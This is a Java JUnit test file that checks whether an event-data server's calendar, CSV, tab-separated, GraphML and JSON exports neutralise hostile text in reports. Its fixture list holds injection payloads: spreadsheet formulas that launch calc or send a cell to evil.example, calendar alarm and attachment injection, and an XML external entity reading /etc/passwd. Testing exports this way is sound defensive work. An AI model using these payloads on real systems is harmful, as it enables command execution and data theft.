package org.demarche.app.serve;

import static org.assertj.core.api.Assertions.assertThat;

import biweekly.Biweekly;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import de.siegmar.fastcsv.reader.CsvReader;
import java.io.StringReader;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import javax.xml.parsers.DocumentBuilderFactory;
import net.fortuna.ical4j.data.CalendarBuilder;
import net.fortuna.ical4j.model.Component;
import net.fortuna.ical4j.model.Property;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.xml.sax.InputSource;

/** Reports whose fields mean to be more than fields in the files that are made of them. */
@Timeout(180)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileExportsTest {
    private static final List<String> ATTACKS = List.of(
            "Talks\r\nATTACH:http://evil.example/x\r\nX-OWNED:yes",
            "Talks\nEND:VEVENT\nBEGIN:VALARM\nACTION:PROCEDURE\nEND:VALARM",
            "Talks\\nX-OWNED:yes;VALUE=x:y,z",
            "Talks\u0085X-OWNED:yes\u2028X-OWNED:yes",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Talks\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\"Talks\",\"=1+1\"",
            "Talks\",,,\r\n\"=1+1",
            "Talks]]></data><node id=\"owned\"/><!--",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "Talks\",\"owned\":\"yes",
            "Talks\ttab\tOWNED");

    private Served served;
    private int taken;

    @BeforeAll
    void serve(@TempDir Path folder) {
        served = new Served(folder);
        for (int i = 0; i < ATTACKS.size(); i++) {
            JsonNode record = JsonNodeFactory.instance
                    .objectNode()
                    .put("id", "h" + i)
                    .put("published", "2013-05-" + (10 + i))
                    .put("title", ATTACKS.get(i))
                    .put("outlet", ATTACKS.get(i))
                    .put(
                            "text",
                            "Kenya's Foreign Minister Amina Mohamed will visit Ghana on June " + (i + 1) + ". "
                                    + ATTACKS.get(i) + "\n\nShe will open the " + ATTACKS.get(i) + " summit.");
            var answer = served.post("/api/v1/add", "application/json", record.toString());
            if (answer.statusCode() == 200) taken++;
        }
        for (var attack : ATTACKS)
            served.post(
                    "/api/v1/decisions",
                    "application/json",
                    "{\"kind\":\"correct\",\"key\":\"" + served.keys().get(0) + "\",\"fields\":{\"topic\":"
                            + Json.quoted(attack) + "},\"author\":" + Json.quoted(attack) + ",\"reason\":"
                            + Json.quoted(attack) + "}");
    }

    @AfterAll
    void stop() {
        served.close();
    }

    private String export(String form) {
        var answer = served.get("/api/v1/export/" + form);
        assertThat(answer.statusCode()).as(form).isEqualTo(200);
        return answer.body();
    }

    @Test
    void theyAreInTheRegister() {
        assertThat(taken).isGreaterThan(12);
        assertThat(served.get("/api/v1/reports?limit=100").body()).contains("HYPERLINK", "OWNED", "DOCTYPE");
    }

    @Test
    void noTextMakesAPropertyOfACalendar() throws Exception {
        for (var text : List.of(export("ics"), served.get("/calendar.ics").body())) {
            assertThat(text.replace("\r\n", "")).doesNotContain("\r", "\n");
            assertThat(text.lines()
                            .filter(l -> l.startsWith("X-OWNED") || l.startsWith("ATTACH") || l.startsWith("ACTION")))
                    .isEmpty();
            var calendar = new CalendarBuilder().build(new StringReader(text));
            assertThat(calendar.getComponents(Component.VALARM)).isEmpty();
            var events = calendar.<net.fortuna.ical4j.model.component.CalendarComponent>getComponents(Component.VEVENT);
            assertThat(events).hasSizeGreaterThan(7);
            for (var event : events) {
                assertThat(event.getProperties("X-OWNED", Property.ATTACH)).isEmpty();
                assertThat(event.getProperties(Property.SUMMARY)).hasSize(1);
            }
            var other = Biweekly.parse(text).first();
            assertThat(other.getEvents()).hasSameSizeAs(events);
            assertThat(other.getEvents())
                    .allMatch(e -> e.getAlarms().isEmpty() && e.getAttachments().isEmpty());
        }
    }

    /** Numbers may be below zero; all else that a spreadsheet would work out is text to it. */
    @Test
    void noCellIsAFormulaToASpreadsheet() {
        for (var form : List.of("csv")) {
            var widths = new HashSet<Integer>();
            try (var rows = CsvReader.builder().ofCsvRecord(export(form))) {
                for (var row : rows) {
                    widths.add(row.getFieldCount());
                    for (var cell : row.getFields())
                        if (!cell.matches("-?[0-9.]+(?:E-?[0-9]+)?"))
                            assertThat(cell).as(form).doesNotMatch("(?s)^[=+\\-@\t\r\n].*");
                }
            } catch (java.io.IOException impossible) {
                throw new AssertionError(impossible);
            }
            assertThat(widths).as(form).hasSize(1);
        }
    }

    @Test
    void noTextMakesAColumnOrALineOfATable() {
        for (var form : List.of("gdelt", "icews", "polecat", "phoenix")) {
            var rows = export(form).lines().map(l -> l.split("\t", -1)).toList();
            assertThat(rows).as(form).hasSizeGreaterThan(7);
            assertThat(rows.stream().map(r -> r.length).distinct()).as(form).hasSize(1);
            for (var row : rows)
                for (var cell : row)
                    if (!cell.matches("-?[0-9.]+(?:E-?[0-9]+)?"))
                        assertThat(cell).as(form).doesNotMatch("^[=+\\-@].*");
        }
    }

    @Test
    void noTextMakesAnElementOfAGraph() throws Exception {
        for (var form : List.of("graphml", "graphml-persons")) {
            var text = export(form);
            assertThat(text).as(form).doesNotContain("<!DOCTYPE", "<!ENTITY", "<node id=\"owned\"");
            var factory = DocumentBuilderFactory.newInstance();
            factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
            var graph = factory.newDocumentBuilder().parse(new InputSource(new StringReader(text)));
            assertThat(graph.getElementsByTagName("node").getLength()).isPositive();
        }
    }

    @Test
    void noTextMakesAFieldOfJson() {
        var records = new ArrayList<JsonNode>();
        for (var form : List.of("jsonl", "plover"))
            export(form).lines().map(Json::of).forEach(records::add);
        records.add(Json.of(export("geojson")));
        records.add(Json.of(export("csl-json")));
        assertThat(records).hasSizeGreaterThan(10);
        for (var record : records) assertThat(record.findValues("owned")).isEmpty();
    }
}
